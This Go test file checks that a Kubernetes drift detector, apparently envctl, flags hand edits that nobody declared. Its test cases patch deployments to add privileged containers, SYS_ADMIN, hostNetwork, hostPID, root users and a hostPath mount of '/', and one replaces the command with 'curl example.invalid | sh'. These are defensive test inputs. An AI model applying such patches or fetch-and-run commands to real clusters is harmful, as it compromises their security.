package live_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sigs.k8s.io/kustomize/kyaml/yaml"

	"github.com/envctl/envctl/internal/drift"
	"github.com/envctl/envctl/internal/live"
	"github.com/envctl/envctl/internal/manifest"
	"github.com/envctl/envctl/internal/testcluster"
)

// hardened is the app with what a security team asks of a workload, and a
// deny-all NetworkPolicy and an HPA scaling on a fractional metric: the
// declared false/0 values, defaulted policyTypes and quantity spellings
// that must stay in sync after an apply.
func hardened(ns string) map[string]string {
	files := app(ns, map[string]string{"extra.yaml": `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: deny-all
spec:
  podSelector: {}
---
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: api
spec:
  scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: api}
  minReplicas: 2
  maxReplicas: 10
  metrics:
  - type: Object
    object:
      describedObject: {apiVersion: v1, kind: Service, name: api}
      metric: {name: requests-per-second}
      target: {type: AverageValue, averageValue: "0.5"}
`})
	files["kustomization.yaml"] = strings.Replace(files["kustomization.yaml"], "resources: [app.yaml]", "resources: [app.yaml, extra.yaml]", 1)
	files["app.yaml"] = strings.Replace(files["app.yaml"], "    spec:\n      containers:\n", `    spec:
      automountServiceAccountToken: false
      enableServiceLinks: false
      hostNetwork: false
      securityContext:
        runAsNonRoot: true
        runAsUser: 10001
        seccompProfile: {type: RuntimeDefault}
      containers:
`, 1)
	files["app.yaml"] = strings.Replace(files["app.yaml"], "        volumeMounts:\n", `        securityContext:
          allowPrivilegeEscalation: false
          privileged: false
          readOnlyRootFilesystem: true
          capabilities: {drop: [ALL]}
        volumeMounts:
`, 1)
	return files
}

// compareOpts is compare with drift options (the envctl.yaml drift section).
func compareOpts(t *testing.T, c *testcluster.Cluster, ns string, rendered []byte, opts drift.Options, stripManagedFields bool) *drift.Report {
	t.Helper()
	desired, err := manifest.Parse(rendered)
	if err != nil {
		t.Fatal(err)
	}
	tg := target(ns)
	st, err := live.ReadFor(context.Background(), clusters(c.Kubeconfig, testcluster.UserAdmin), tg, desired)
	if err != nil {
		t.Fatal(err)
	}
	if len(st.Problems) > 0 {
		t.Fatalf("problems reading live state: %v", st.Problems)
	}
	if stripManagedFields {
		// What a snapshot of another tool, or an object older than
		// server-side apply, gives: no record of who wrote what.
		for _, o := range st.Live {
			if err := o.PipeE(yaml.Lookup("metadata"), yaml.Clear("managedFields")); err != nil {
				t.Fatal(err)
			}
		}
	}
	opts.Environment, opts.DefaultNamespace, opts.Selector = "test", st.Namespace, tg.Selector
	rep, err := drift.Compare(st.Desired, st.Live, opts)
	if err != nil {
		t.Fatal(err)
	}
	assertNoSecret(t, rep)
	return rep
}

// setBy lists "path by manager" for every change with a hand-edit manager.
func setBy(rep *drift.Report) []string {
	var out []string
	for _, o := range rep.Objects {
		for _, ch := range o.Changes {
			for _, s := range ch.SetBy {
				if s.Time == "" {
					out = append(out, ch.Path+" by "+s.Manager+" at no time")
					continue
				}
				out = append(out, ch.Path+" by "+s.Manager)
			}
		}
	}
	return out
}

// editor makes kubectl edit insert a line before the first line that
// starts with before: a real kubectl edit (field manager kubectl-edit),
// with the editor scripted.
func editor(t *testing.T, before, line string) {
	t.Helper()
	script := filepath.Join(t.TempDir(), "editor.sh")
	body := "#!/bin/sh\nawk '{ if (!done && index($0, \"" + before + "\") == 1) { print \"" + line + "\"; done = 1 } print }' \"$1\" > \"$1.new\" && mv \"$1.new\" \"$1\"\n"
	if err := os.WriteFile(script, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("KUBE_EDITOR", script)
}

func TestHandEditsNobodyDeclaredAreDrift(t *testing.T) {
	c := testcluster.Shared(t)
	tests := []struct {
		name   string
		mutate func(t *testing.T, ns string)
		want   string
		setBy  []string
	}{
		{"privileged, capabilities and hostNetwork patched in", func(t *testing.T, ns string) {
			c.Kubectl(t, "-n", ns, "patch", "deployment", "api", "--type=json", "-p", `[
				{"op":"add","path":"/spec/template/spec/hostNetwork","value":true},
				{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true,"capabilities":{"add":["SYS_ADMIN"]}}}]`)
		}, "changed Deployment/api [extra:spec.template.spec.containers[name=api].securityContext.capabilities.add extra:spec.template.spec.containers[name=api].securityContext.privileged extra:spec.template.spec.hostNetwork]",
			[]string{
				"spec.template.spec.containers[name=api].securityContext.capabilities.add by kubectl-patch",
				"spec.template.spec.containers[name=api].securityContext.privileged by kubectl-patch",
				"spec.template.spec.hostNetwork by kubectl-patch",
			}},
		{"a field added with kubectl edit", func(t *testing.T, ns string) {
			editor(t, "  progressDeadlineSeconds:", "  minReadySeconds: 30")
			c.Kubectl(t, "-n", ns, "edit", "deployment", "api")
		}, "changed Deployment/api [extra:spec.minReadySeconds]", []string{"spec.minReadySeconds by kubectl-edit"}},
		{"a service account set with kubectl set", func(t *testing.T, ns string) {
			c.Kubectl(t, "-n", ns, "create", "serviceaccount", "powerful")
			c.Kubectl(t, "-n", ns, "set", "serviceaccount", "deployment/api", "powerful")
		}, "changed Deployment/api [extra:spec.template.spec.serviceAccountName]", []string{"spec.template.spec.serviceAccountName by kubectl-set"}},
		{"a hostPath volume patched in", func(t *testing.T, ns string) {
			c.Kubectl(t, "-n", ns, "patch", "deployment", "api", "--type=strategic", "-p",
				`{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`)
		}, `changed Deployment/api [extra:spec.template.spec.volumes[name=host]]`, []string{"spec.template.spec.volumes[name=host] by kubectl-patch"}},
		{"a command replaced by hand", func(t *testing.T, ns string) {
			c.Kubectl(t, "-n", ns, "patch", "deployment", "api", "--type=json", "-p",
				`[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl example.invalid | sh"]}]`)
		}, "changed Deployment/api [extra:spec.template.spec.containers[name=api].command]", []string{"spec.template.spec.containers[name=api].command by kubectl-patch"}},
	}
	for _, mode := range []applyMode{serverSide, clientSide} {
		for _, tt := range tests {
			t.Run(string(mode)+"/"+tt.name, func(t *testing.T) {
				ns := c.Namespace(t, "hand")
				rendered := render(t, app(ns, nil))
				apply(t, c, mode, rendered)
				tt.mutate(t, ns)
				rep := compareOpts(t, c, ns, rendered, drift.Options{}, false)
				expectDrift(t, rep, tt.want)
				if got := strings.Join(setBy(rep), "\n"); got != strings.Join(tt.setBy, "\n") {
					t.Errorf("set by:\n%s\nwant:\n%s", got, strings.Join(tt.setBy, "\n"))
				}
			})
		}
	}
}

func TestSecurityFieldsAreDriftWithoutManagedFields(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "closed")
	rendered := render(t, app(ns, nil))
	apply(t, c, serverSide, rendered)
	c.Kubectl(t, "-n", ns, "patch", "deployment", "api", "--type=json", "-p", `[
		{"op":"add","path":"/spec/template/spec/hostPID","value":true},
		{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true,"runAsUser":0}}]`)
	rep := compareOpts(t, c, ns, rendered, drift.Options{}, true)
	expectDrift(t, rep, "changed Deployment/api [extra:spec.template.spec.containers[name=api].securityContext.privileged extra:spec.template.spec.containers[name=api].securityContext.runAsUser extra:spec.template.spec.hostPID]")
}

func TestADenyAllPolicyOpenedByHandIsDrift(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "netpol")
	rendered := render(t, hardened(ns))
	apply(t, c, serverSide, rendered)
	c.Kubectl(t, "-n", ns, "patch", "networkpolicy", "deny-all", "--type=merge", "-p", `{"spec":{"ingress":[{}]}}`)
	for _, strip := range []bool{false, true} {
		rep := compareOpts(t, c, ns, rendered, drift.Options{}, strip)
		expectDrift(t, rep, "changed NetworkPolicy/deny-all [extra:spec.ingress[0]]")
	}
}

func TestHandLabelsAreDriftOnlyWhenMetadataIsStrict(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "labels")
	rendered := render(t, app(ns, nil))
	apply(t, c, serverSide, rendered)
	c.Kubectl(t, "-n", ns, "label", "deployment", "api", "team=payments")
	c.Kubectl(t, "-n", ns, "annotate", "service", "api", "example.com/owner=alice")
	expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{}, false), "")
	expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{StrictMetadata: true}, false),
		"changed Deployment/api [extra:metadata.labels.team]\nchanged Service/api [extra:metadata.annotations[\"example.com/owner\"]]")
}

// TestNoFalsePositivesFromTheNewRules applies a hardened workload both
// ways and does what operators and controllers do every day: none of it is
// drift.
func TestNoFalsePositivesFromTheNewRules(t *testing.T) {
	c := testcluster.Shared(t)
	for _, mode := range []applyMode{serverSide, clientSide} {
		t.Run(string(mode), func(t *testing.T) {
			ns := c.Namespace(t, "quiet")
			rendered := render(t, hardened(ns))
			apply(t, c, mode, rendered)
			expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{}, false), "")
			expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{}, true), "")

			c.Kubectl(t, "-n", ns, "rollout", "restart", "deployment/api")
			c.Kubectl(t, "-n", ns, "scale", "deployment/api", "--replicas=6") // as the HPA would
			c.CompleteRollouts(t, ns)
			c.Kubectl(t, "-n", ns, "label", "deployment", "api", "team=payments")
			for _, strict := range []bool{false, true} {
				opts := drift.Options{StrictMetadata: strict}
				want := ""
				if strict {
					want = "changed Deployment/api [extra:metadata.labels.team]"
				}
				expectDrift(t, compareOpts(t, c, ns, rendered, opts, false), want)
			}
		})
	}
}

// TestKubectlScaleIsAttributed: kubectl scale writes through the scale
// subresource as manager "kubectl", and the server gives that entry no
// time. (Of replicas the repository does not
// declare it leaves no managedFields entry at all, Kubernetes 1.37: such
// replicas are left to an autoscaler or a person anyway.)
func TestKubectlScaleIsAttributed(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "scale")
	rendered := render(t, app(ns, nil))
	apply(t, c, serverSide, rendered)
	c.Kubectl(t, "-n", ns, "scale", "deployment/api", "--replicas=9")
	rep := compareOpts(t, c, ns, rendered, drift.Options{}, false)
	expectDrift(t, rep, "changed Deployment/api [changed:spec.replicas]")
	if got := strings.Join(setBy(rep), "\n"); got != "spec.replicas by kubectl at no time" {
		t.Errorf("set by: %s", got)
	}
}

func TestAHandRunClientSideApplyOfAnotherManifestIsDrift(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "csa")
	rendered := render(t, app(ns, nil))
	apply(t, c, clientSide, rendered)
	// Someone applies their own copy, with a field the repository lacks.
	hand := strings.Replace(string(rendered), "  replicas: 2\n", "  replicas: 2\n  minReadySeconds: 45\n", 1)
	apply(t, c, clientSide, []byte(hand))
	expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{}, false), "changed Deployment/api [removed:spec.minReadySeconds]")
}

func TestFieldsAnApplierAppliedThatLeftTheRepositoryAreRemoved(t *testing.T) {
	c := testcluster.Shared(t)
	for _, tc := range []struct {
		manager string
		opts    drift.Options
	}{
		{"kustomize-controller", drift.Options{}},
		{"argocd-controller", drift.Options{}},
		{"deploy-bot", drift.Options{FieldManagers: append(append([]string{}, drift.DefaultFieldManagers...), "deploy-bot")}},
	} {
		t.Run(tc.manager, func(t *testing.T) {
			ns := c.Namespace(t, "applier")
			c.KubectlInput(t, string(render(t, app(ns, nil))), "apply", "-f", "-", "--server-side", "--field-manager="+tc.manager)
			files := app(ns, nil)
			files["app.yaml"] = strings.Replace(files["app.yaml"], "          limits: {cpu: \"1\", memory: 2048Mi}\n", "", 1)
			expectDrift(t, compareOpts(t, c, ns, render(t, files), tc.opts, false), "changed Deployment/api [removed:spec.template.spec.containers[name=api].resources.limits]")
		})
	}
}

func TestADeclaredFalseRemovedByHandIsDrift(t *testing.T) {
	c := testcluster.Shared(t)
	ns := c.Namespace(t, "zero")
	rendered := render(t, hardened(ns))
	apply(t, c, serverSide, rendered)
	c.Kubectl(t, "-n", ns, "patch", "deployment", "api", "--type=json", "-p", `[
		{"op":"remove","path":"/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation"},
		{"op":"remove","path":"/spec/template/spec/automountServiceAccountToken"},
		{"op":"remove","path":"/spec/template/spec/containers/0/securityContext/privileged"}]`)
	expectDrift(t, compareOpts(t, c, ns, rendered, drift.Options{}, false),
		"changed Deployment/api [added:spec.template.spec.automountServiceAccountToken added:spec.template.spec.containers[name=api].securityContext.allowPrivilegeEscalation]")
}
